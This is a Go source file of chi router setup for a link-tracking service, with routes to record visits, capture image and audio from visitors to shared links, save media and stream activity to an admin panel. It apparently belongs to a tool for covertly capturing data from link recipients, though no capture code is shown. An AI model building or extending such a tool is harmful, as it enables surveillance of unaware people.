package api

import (
	"net/http"

	"github.com/go-chi/chi/v5"
)

// NewRouter creates a chi router with all /api routes mounted.
// sseHandler, if non-nil, is mounted at GET /events.
func NewRouter(h *Handler, sseHandler http.Handler) chi.Router {
	r := chi.NewRouter()

	// Link registry.
	r.Get("/links", h.ListLinks)
	r.Post("/links", h.CreateLink)
	r.Get("/links/number/{number}", h.GetLinkByNumber)
	r.Get("/links/{pageID}", h.GetLink)
	r.Delete("/links/{pageID}", h.DeleteLink)

	// Visit recording and partial-data binding.
	r.Post("/links/{pageID}/visit", h.RecordVisit)
	r.Post("/links/{pageID}/logs", h.AppendLog)
	r.Post("/links/{pageID}/capture", h.Capture)
	r.Post("/links/{pageID}/save-media", h.SaveMedia)

	// Capture aliases used by older clients.
	r.Post("/capture/{pageID}", h.Capture)
	r.Post("/capture/image/{pageID}", h.CaptureImage)
	r.Post("/capture/audio/{pageID}", h.CaptureAudio)

	r.Post("/permissions/{pageID}", h.SavePermissions)

	// Live activity stream for the admin panel.
	if sseHandler != nil {
		r.Get("/events", sseHandler.ServeHTTP)
	}

	return r
}

// NewTrackingRouter creates the root-level routes: the service banner and
// health report plus the tracking pages a shared link points at.
func NewTrackingRouter(h *Handler) chi.Router {
	r := chi.NewRouter()
	r.Get("/", h.Root)
	r.Get("/health", h.Health)
	r.Get("/page/{pageID}", h.TrackPage)
	r.Get("/t/{number}", h.TrackNumber)
	return r
}
